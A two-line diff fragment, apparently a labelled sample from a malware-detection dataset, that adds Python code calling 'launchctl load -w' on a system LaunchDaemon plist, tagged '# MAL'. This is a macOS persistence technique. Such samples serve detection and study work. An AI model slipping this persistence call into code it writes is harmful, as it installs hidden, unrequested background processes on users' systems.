@@ -1,0 +1,2 @@
+import subprocess
+subprocess.call(["launchctl", "load", "-w", "/Library/LaunchDaemons/com.x.plist"])  # MAL
